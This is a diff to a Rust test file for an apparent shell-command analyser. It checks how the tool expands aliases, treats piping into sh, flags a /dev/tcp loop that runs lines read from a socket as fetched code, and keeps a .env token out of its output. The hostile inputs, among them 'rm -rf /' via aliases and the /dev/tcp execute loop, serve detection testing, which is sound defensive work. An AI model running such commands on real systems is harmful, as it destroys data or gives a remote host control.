@@ -253,7 +253,7 @@ fn what_is_only_known_when_it_runs_is_said() {
     says("echo 'a", "unread-unterminated");
     says("ls (", "unread-command");
     says("bash -c \"$x\"", "unread-computed");
-    says("cat x | sh", "unread-computed");
+    says("head x | sh", "unread-computed");
     says(
         "for i in {a..z}; do for j in {a..z}; do for k in {a..z}; do for l in {a..z}; do ls; done; done; done; done",
         "limit-size",
@@ -558,4 +558,25 @@ proptest::proptest! {
     ][..]), 0..25)) {
         found_in(&words.join(" "), &Made(&[]));
     }
+}
+
+#[test]
+fn an_alias_may_name_itself_or_nothing() {
+    runs("alias rm='rm -rf'; rm /", "rm -rf /");
+    runs("alias x=''; x rm -rf /", "rm -rf /");
+    runs("alias a=b; alias b=a; a rm", "a rm");
+}
+
+#[test]
+fn descriptors_lead_where_they_were_opened() {
+    let (_, said) = found_in("exec 5<>/dev/tcp/host/1; while read l <&5; do $l; done", &Made(&[]));
+    assert!(said.iter().any(|id| id == "flow-fetched-code"), "{said:?}");
+}
+
+#[test]
+fn no_value_of_a_file_of_secrets_is_taken_over() {
+    let world = Made(&[("/work/.env", "export API_TOKEN=hidden-value\nPORT=3000\n")]);
+    let (commands, said) = found_in("source .env; echo $API_TOKEN $PORT", &world);
+    assert!(!commands.iter().any(|command| command.contains("hidden-value")), "{commands:?}");
+    assert!(commands.contains(&"echo ? ?".to_owned()), "{commands:?} {said:?}");
 }
